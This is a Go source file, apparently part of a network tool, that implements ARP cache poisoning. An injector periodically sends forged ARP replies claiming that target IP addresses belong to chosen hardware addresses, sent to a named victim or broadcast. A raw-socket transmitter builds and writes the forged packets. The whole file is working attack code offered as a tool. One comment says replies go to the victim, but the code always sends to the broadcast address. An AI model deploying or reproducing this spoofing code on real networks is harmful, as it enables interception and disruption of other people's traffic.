package observer

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"time"

	"github.com/mdlayher/arp"
	"github.com/sirupsen/logrus"
)

// Transmitter puts a forged "ip is-at hwaddr" reply on the wire
type Transmitter interface {
	SendReply(claimIP, claimHWAddr, victimIP string) error
}

// Injector periodically broadcasts forged replies for every target ip. It
// only reads the falsifier's table.
type Injector struct {
	falsifier   *Falsifier
	tx          Transmitter
	interval    time.Duration
	victim      string
	defaultFake string
}

// NewInjector creates an injector. victim may be empty for broadcast.
func NewInjector(f *Falsifier, tx Transmitter, interval time.Duration, victim, defaultFake string) *Injector {
	return &Injector{
		falsifier:   f,
		tx:          tx,
		interval:    interval,
		victim:      victim,
		defaultFake: defaultFake,
	}
}

// Run injects every interval until ctx is cancelled
func (i *Injector) Run(ctx context.Context) error {
	logrus.Warnf("Injector: forging replies for %v every %s", i.falsifier.TargetIPs(), i.interval)

	ticker := time.NewTicker(i.interval)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return nil
		case <-ticker.C:
			i.InjectOnce()
		}
	}
}

// InjectOnce sends one forged reply per target and returns how many were sent
func (i *Injector) InjectOnce() int {
	sent := 0
	for _, ip := range i.falsifier.TargetIPs() {
		fake, ok := i.falsifier.Lookup(ip)
		if !ok {
			fake = i.defaultFake
		}
		if err := i.tx.SendReply(ip, fake, i.victim); err != nil {
			logrus.Errorf("Injector: failed to send forged reply for %s: %v", ip, err)
			continue
		}
		sent++
		logrus.Warnf("Injector: claimed %s is-at %s", ip, fake)
	}
	return sent
}

// ARPTransmitter sends raw ARP replies on one interface
type ARPTransmitter struct {
	client *arp.Client
	iface  *net.Interface
}

// NewARPTransmitter opens a raw ARP socket on iface. Requires CAP_NET_RAW.
func NewARPTransmitter(iface string) (*ARPTransmitter, error) {
	ifi, err := net.InterfaceByName(iface)
	if err != nil {
		return nil, fmt.Errorf("interface %s: %w", iface, err)
	}
	client, err := arp.Dial(ifi)
	if err != nil {
		return nil, fmt.Errorf("open arp socket on %s: %w", iface, err)
	}
	return &ARPTransmitter{client: client, iface: ifi}, nil
}

// SendReply sends the forged reply to victimIP, or broadcast when empty
func (t *ARPTransmitter) SendReply(claimIP, claimHWAddr, victimIP string) error {
	p, err := forgedReply(claimIP, claimHWAddr, victimIP)
	if err != nil {
		return err
	}
	return t.client.WriteTo(p, ethernetBroadcast)
}

// Close releases the socket
func (t *ARPTransmitter) Close() error {
	return t.client.Close()
}

var ethernetBroadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// forgedReply builds an ARP reply claiming claimIP is at claimHWAddr
func forgedReply(claimIP, claimHWAddr, victimIP string) (*arp.Packet, error) {
	src, err := netip.ParseAddr(claimIP)
	if err != nil {
		return nil, fmt.Errorf("claim ip: %w", err)
	}
	hw, err := net.ParseMAC(claimHWAddr)
	if err != nil {
		return nil, fmt.Errorf("claim hwaddr: %w", err)
	}

	dst := netip.IPv4Unspecified()
	if victimIP != "" {
		dst, err = netip.ParseAddr(victimIP)
		if err != nil {
			return nil, fmt.Errorf("victim ip: %w", err)
		}
	}

	return arp.NewPacket(arp.OperationReply, hw, src, ethernetBroadcast, dst)
}
